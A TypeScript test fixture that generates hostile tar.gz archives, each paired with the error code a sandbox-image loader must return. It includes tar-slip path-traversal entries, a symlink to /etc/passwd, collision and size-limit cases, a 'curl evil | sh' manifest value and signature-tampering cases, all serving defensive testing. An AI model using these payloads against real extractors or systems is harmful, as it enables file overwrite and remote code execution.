/**
 * The corpus of hostile archives, generated in code: each case is one attack or one defect, in an
 * otherwise valid image, with the exact error code the loader must answer. Shared by the
 * in-process test and the child-process "nothing written anywhere" test, so options are plain
 * JSON (keys as PEM strings).
 */
import { generateKeyPairSync } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import type { ErrorCode } from '../../runtime/errors.js';
import { computeDigest } from '../../sandbox-images/digest.js';
import { SIGNATURES_PATH } from '../../sandbox-images/paths.js';
import { createSignature, encodeSignatures } from '../../sandbox-images/signature.js';
import { MAIN_JS, baseEntries, baseFiles, gz, manifestJson, paxEntry, rawEntry, rawTar } from './helpers.js';
import type { RawEntry } from './helpers.js';

export interface HostileCase {
  name: string;
  archive: Buffer;
  /** The code the loader must answer, or 'OK' for a control case that must load. */
  code: ErrorCode | 'OK';
  options?: Record<string, unknown>;
}

const withBase = (...extra: RawEntry[]): Buffer => gz(rawTar([...baseEntries(), ...extra]));

/** `target` is an absolute path an escaping entry would land on if the loader wrote anything. */
export function hostileCorpus(target: string): HostileCase[] {
  const signer = generateKeyPairSync('ed25519');
  const stranger = generateKeyPairSync('ed25519');
  const trusted = signer.publicKey.export({ type: 'spki', format: 'pem' }).toString();
  const files = baseFiles();
  const { digest } = computeDigest(files);
  const signatures = encodeSignatures([createSignature(digest, signer.privateKey)]);
  const signedEntries: RawEntry[] = [...baseEntries(), { path: SIGNATURES_PATH, body: signatures }];
  const tampered: RawEntry[] = [
    { path: 'manifest.json', body: manifestJson() },
    { path: 'agent/main.js', body: `${MAIN_JS}// changed after signing\n` },
    { path: SIGNATURES_PATH, body: signatures },
  ];
  const strangerSigned: RawEntry[] = [
    ...baseEntries(),
    { path: SIGNATURES_PATH, body: encodeSignatures([createSignature(digest, stranger.privateKey)]) },
  ];
  const valid = withBase();
  const corruptGzip = Buffer.from(valid);
  for (let i = 20; i < corruptGzip.length - 12; i += 7) corruptGzip[i] = (corruptGzip[i] ?? 0) ^ 0x55;
  const deep = `${Array.from({ length: 16 }, (_, i) => `d${i}`).join('/')}/x.js`;

  return [
    // Tar-slip: paths that would land outside an extraction folder.
    { name: 'absolute path', archive: withBase({ path: `${target}/pwned.js`, body: 'x' }), code: 'IMAGE_ABSOLUTE_PATH' },
    { name: 'windows drive path', archive: withBase({ path: 'C:\\pwned.js', body: 'x' }), code: 'IMAGE_ABSOLUTE_PATH' },
    { name: 'dot-dot at start', archive: withBase({ path: '../pwned.js', body: 'x' }), code: 'IMAGE_PATH_TRAVERSAL' },
    { name: 'dot-dot inside', archive: withBase({ path: 'agent/../../pwned.js', body: 'x' }), code: 'IMAGE_PATH_TRAVERSAL' },
    { name: 'dot-dot with backslashes', archive: withBase({ path: '..\\pwned.js', body: 'x' }), code: 'IMAGE_PATH_TRAVERSAL' },
    { name: 'pax path override to ..', archive: gz(rawTar([...baseEntries().map((e) => rawEntry(e)), paxEntry({ path: '../pwned.js' }), rawEntry({ path: 'innocent.js', body: 'x' })])), code: 'IMAGE_PATH_TRAVERSAL' },
    { name: 'GNU long name to absolute path', archive: gz(rawTar([...baseEntries(), { path: '././@LongLink', type: 'L', body: `${target}/pwned-long.js\0` }, { path: 'short.js', body: 'x' }])), code: 'IMAGE_ABSOLUTE_PATH' },
    { name: 'control character in path', archive: withBase({ path: 'agent/a\u001b[31m.js', body: 'x' }), code: 'IMAGE_PATH_INVALID' },
    { name: 'empty path segment', archive: withBase({ path: 'agent//x.js', body: 'x' }), code: 'IMAGE_PATH_INVALID' },
    // Links and special files.
    { name: 'symbolic link', archive: withBase({ path: 'agent/link.js', type: '2', linkpath: '/etc/passwd' }), code: 'IMAGE_LINK' },
    { name: 'hard link', archive: withBase({ path: 'agent/hard.js', type: '1', linkpath: 'manifest.json' }), code: 'IMAGE_LINK' },
    { name: 'character device', archive: withBase({ path: 'agent/tty.js', type: '3' }), code: 'IMAGE_SPECIAL_FILE' },
    { name: 'block device', archive: withBase({ path: 'agent/disk.js', type: '4' }), code: 'IMAGE_SPECIAL_FILE' },
    { name: 'FIFO', archive: withBase({ path: 'agent/pipe.js', type: '6' }), code: 'IMAGE_SPECIAL_FILE' },
    { name: 'contiguous file', archive: withBase({ path: 'agent/c.js', type: '7', body: 'x' }), code: 'IMAGE_SPECIAL_FILE' },
    { name: 'unknown entry type', archive: withBase({ path: 'agent/u.js', type: 'Z', body: 'x' }), code: 'IMAGE_SPECIAL_FILE' },
    // Names that collide.
    { name: 'duplicate entry', archive: withBase({ path: 'agent/main.js', body: 'export default () => 1;' }), code: 'IMAGE_DUPLICATE_ENTRY' },
    { name: 'case collision', archive: withBase({ path: 'agent/Main.js', body: 'x' }), code: 'IMAGE_PATH_COLLISION' },
    { name: 'Unicode NFC/NFD collision', archive: withBase({ path: 'caf\u00e9.js', body: 'x' }, { path: 'cafe\u0301.js', body: 'x' }), code: 'IMAGE_PATH_COLLISION' },
    { name: 'full case folding collision', archive: withBase({ path: 'stra\u00dfe.txt', body: 'x' }, { path: 'STRASSE.txt', body: 'x' }), code: 'IMAGE_PATH_COLLISION' },
    { name: 'file used as a directory', archive: withBase({ path: 'agent/main.js/x.js', body: 'x' }), code: 'IMAGE_PATH_COLLISION' },
    // Shape limits.
    { name: 'too deep', archive: withBase({ path: deep, body: 'x' }), code: 'IMAGE_PATH_TOO_DEEP' },
    { name: 'too many files', archive: withBase(...Array.from({ length: 9 }, (_, i) => ({ path: `f${i}.txt`, body: 'x' }))), code: 'IMAGE_TOO_MANY_FILES', options: { maxFiles: 10 } },
    { name: 'oversized file', archive: withBase({ path: 'big.txt', body: 'x'.repeat(1025) }), code: 'IMAGE_FILE_TOO_LARGE', options: { maxFileBytes: 1024 } },
    { name: 'declared size over the file limit', archive: withBase({ path: 'huge.txt', size: 8 * 1024 * 1024 * 1024 - 1 }), code: 'IMAGE_FILE_TOO_LARGE' },
    { name: 'total too large', archive: withBase(...Array.from({ length: 8 }, (_, i) => ({ path: `f${i}.txt`, body: 'y'.repeat(1000) }))), code: 'IMAGE_TOO_LARGE', options: { maxTotalBytes: 8 * 1024 } },
    { name: 'compressed archive too large', archive: valid, code: 'IMAGE_TOO_LARGE', options: { maxArchiveBytes: 64 } },
    // File types.
    { name: 'executable bit', archive: withBase({ path: 'agent/run.js', body: 'x', mode: 0o755 }), code: 'IMAGE_FILE_TYPE' },
    { name: 'node_modules', archive: withBase({ path: 'node_modules/left-pad/index.js', body: 'x' }), code: 'IMAGE_FILE_TYPE' },
    { name: 'disallowed extension', archive: withBase({ path: 'agent/native.node', body: 'x' }), code: 'IMAGE_FILE_TYPE' },
    { name: 'binary content', archive: withBase({ path: 'data.txt', body: Buffer.from([0xff, 0xfe, 0x00, 0xc3]) }), code: 'IMAGE_FILE_TYPE' },
    // Corrupt or truncated streams.
    { name: 'truncated gzip', archive: valid.subarray(0, valid.length - 30), code: 'IMAGE_CORRUPT' },
    { name: 'corrupt gzip', archive: corruptGzip, code: 'IMAGE_CORRUPT' },
    { name: 'not gzip (plain tar)', archive: rawTar(baseEntries()), code: 'IMAGE_CORRUPT' },
    { name: 'not an archive at all', archive: Buffer.from('hello, this is not an image\n'), code: 'IMAGE_CORRUPT' },
    { name: 'empty input', archive: Buffer.alloc(0), code: 'IMAGE_CORRUPT' },
    { name: 'gzip of garbage', archive: gz(Buffer.from('not a tar stream at all, just text '.repeat(40))), code: 'IMAGE_CORRUPT' },
    { name: 'gzip inside gzip', archive: gz(gz(rawTar(baseEntries()))), code: 'IMAGE_CORRUPT' },
    { name: 'bad header checksum', archive: withBase({ path: 'x.txt', body: 'x', badChecksum: true }), code: 'IMAGE_CORRUPT' },
    { name: 'tar truncated inside an entry', archive: gz(rawTar(baseEntries(), { eof: false }).subarray(0, 512 + 100)), code: 'IMAGE_CORRUPT' },
    { name: 'entry hidden after the end-of-archive marker', archive: gz(Buffer.concat([rawTar(baseEntries()), rawTar([{ path: 'hidden.js', body: 'x' }])])), code: 'IMAGE_CORRUPT' },
    { name: 'no end-of-archive marker', archive: gz(rawTar(baseEntries(), { eof: false })), code: 'IMAGE_CORRUPT' },
    // Manifest and entry.
    { name: 'missing manifest', archive: gz(rawTar([{ path: 'agent/main.js', body: MAIN_JS }])), code: 'IMAGE_MANIFEST_MISSING' },
    { name: 'manifest not JSON', archive: gz(rawTar([{ path: 'manifest.json', body: '{"format": 1,' }, { path: 'agent/main.js', body: MAIN_JS }])), code: 'IMAGE_MANIFEST_INVALID' },
    { name: 'manifest with an unknown key', archive: gz(rawTar([{ path: 'manifest.json', body: manifestJson({ run: 'curl evil | sh' }) }, { path: 'agent/main.js', body: MAIN_JS }])), code: 'IMAGE_MANIFEST_INVALID' },
    { name: 'manifest of another format', archive: gz(rawTar([{ path: 'manifest.json', body: manifestJson({ format: 2 }) }, { path: 'agent/main.js', body: MAIN_JS }])), code: 'IMAGE_MANIFEST_INVALID' },
    { name: 'manifest nested 100000 levels deep', archive: gz(rawTar([{ path: 'manifest.json', body: manifestJson({ input: { x: '@@' } }).replace('"@@"', `${'['.repeat(100_000)}${']'.repeat(100_000)}`) }, { path: 'agent/main.js', body: MAIN_JS }])), code: 'IMAGE_MANIFEST_INVALID' },
    { name: 'entry module missing', archive: gz(rawTar([{ path: 'manifest.json', body: manifestJson({ entry: 'agent/missing.js' }) }, { path: 'agent/main.js', body: MAIN_JS }])), code: 'IMAGE_ENTRY_MISSING' },
    // Identity: digest and signatures.
    { name: 'digest mismatch', archive: valid, code: 'IMAGE_DIGEST_MISMATCH', options: { expectedDigest: `sha256:${'0'.repeat(64)}` } },
    { name: 'unsigned but a trust store is given', archive: valid, code: 'IMAGE_SIGNATURE_INVALID', options: { trustedKeys: [trusted] } },
    { name: 'unsigned but a signature is required', archive: valid, code: 'IMAGE_SIGNATURE_INVALID', options: { requireSignature: true } },
    { name: 'signature does not match the files', archive: gz(rawTar(tampered)), code: 'IMAGE_SIGNATURE_INVALID' },
    { name: 'malformed signatures entry', archive: withBase({ path: SIGNATURES_PATH, body: '{"format":1,"signatures":[]}' }), code: 'IMAGE_SIGNATURE_INVALID' },
    { name: 'untrusted signer', archive: gz(rawTar(strangerSigned)), code: 'IMAGE_UNTRUSTED_SIGNER', options: { trustedKeys: [trusted] } },
    // Control: the signed image itself loads with the trust store (guards the corpus, not the loader).
    { name: 'control: signed by the trusted key', archive: gzipSync(rawTar(signedEntries)), code: 'OK', options: { trustedKeys: [trusted] } },
  ];
}
